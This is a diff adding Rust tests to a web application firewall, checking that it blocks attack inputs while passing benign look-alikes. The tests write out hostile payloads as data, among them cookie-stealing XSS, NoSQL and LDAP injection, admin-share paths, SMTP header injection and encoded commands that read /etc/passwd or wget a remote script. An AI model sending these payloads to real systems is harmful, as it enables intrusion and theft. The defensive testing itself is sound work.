@@ -192,3 +192,96 @@ fn base64_values_are_decoded_and_their_text_inspected() {
     );
     assert!(!fw.inspect(&parts, &body).blocked);
 }
+
+/// The rules and normalisation added for classes the gotestwaf measurement showed
+/// (`tests/gotestwaf.rs`), each with benign twins.
+#[test]
+fn xss_119_indirect_sink_calls() {
+    attack("xss-119", "query", "q", "confirm.call(null,1)");
+    attack("xss-119", "json", "q", "alert.apply(null, [1])");
+    attack("xss-119", "form", "q", "alert?.(document?.cookie)");
+    benign(
+        "json",
+        "note",
+        "Please confirm the call with the client by Friday.",
+    );
+    benign("json", "snippet", "fn.call(this, args); handler?.(event)");
+}
+
+#[test]
+fn nosql_106_an_operator_key_after_a_closed_string() {
+    attack("nosql-106", "query", "user", "', $or: [ {}, { 'a':'a");
+    attack("nosql-106", "json", "user", "\", $where: \"sleep(100)");
+    benign("json", "note", "Prices are in USD ('$'), EUR and GBP");
+    benign("json", "note", "They said \"yes\", $5 each: fine");
+}
+
+#[test]
+fn ldap_106_extensible_match() {
+    attack("ldap-106", "query", "user", "userPassword:2.5.13.18:=123");
+    attack("ldap-106", "form", "user", "x)(cn:dn:caseExactMatch:=admin");
+    benign(
+        "json",
+        "note",
+        "ratio 2.5:1, see https://example.com:8443/a",
+    );
+    benign("query", "time", "12:30:45");
+}
+
+#[test]
+fn lfi_113_admin_shares_and_registry_hives() {
+    attack(
+        "lfi-113",
+        "query",
+        "file",
+        "\\\\::1\\c$\\users\\default\\ntuser.dat",
+    );
+    attack(
+        "lfi-113",
+        "json",
+        "path",
+        "\\\\fileserver\\admin$\\system32",
+    );
+    // (A UNC path to any server is refused by rfi-105 already.)
+    benign("json", "path", "C:\\Users\\me\\reports\\2024.xlsx");
+    benign("json", "note", "costs $5/month, see //cdn.example.com/a");
+}
+
+#[test]
+fn smtp_commands_after_any_line_break() {
+    attack(
+        "cmdi-118",
+        "query",
+        "subject",
+        "hi\nRCPT TO: victim@evil.example\n",
+    );
+    attack(
+        "cmdi-118",
+        "form",
+        "from",
+        "a@b.example\nMAIL FROM:<x@evil.example>",
+    );
+    benign("json", "note", "Reply to: support@example.com\nThanks");
+}
+
+#[test]
+fn code_114_php_complex_syntax_call() {
+    attack("code-114", "form", "cmd", "${@print(md5(31337))}");
+    benign("json", "template", "Hello ${name}, total ${price(2)}");
+}
+
+#[test]
+fn form_encoded_plus_is_a_space_and_invisible_characters_are_dropped() {
+    // `+` written by a form encoder, in places no form decoder ran (path, JSON string).
+    common::blocked("path_pre", "x", "%3B+cat+%2Fetc%2Fpasswd");
+    common::blocked("json", "cmd", "%3Bwget+http%3A%2F%2Fsome_host%2Fsh311.sh");
+    benign(
+        "json",
+        "title",
+        "JavaScript%3A+Basics+of+JavaScript+Language",
+    );
+    benign("json", "expr", "C++ is 1 + 1 %3D 2");
+    // A byte order mark hidden in a scheme.
+    common::blocked("query", "url", "javascript:\u{feff}alert(XSS)");
+    benign("json", "name", "Zoë\u{200d}👩\u{200d}💻 O'Neil");
+}
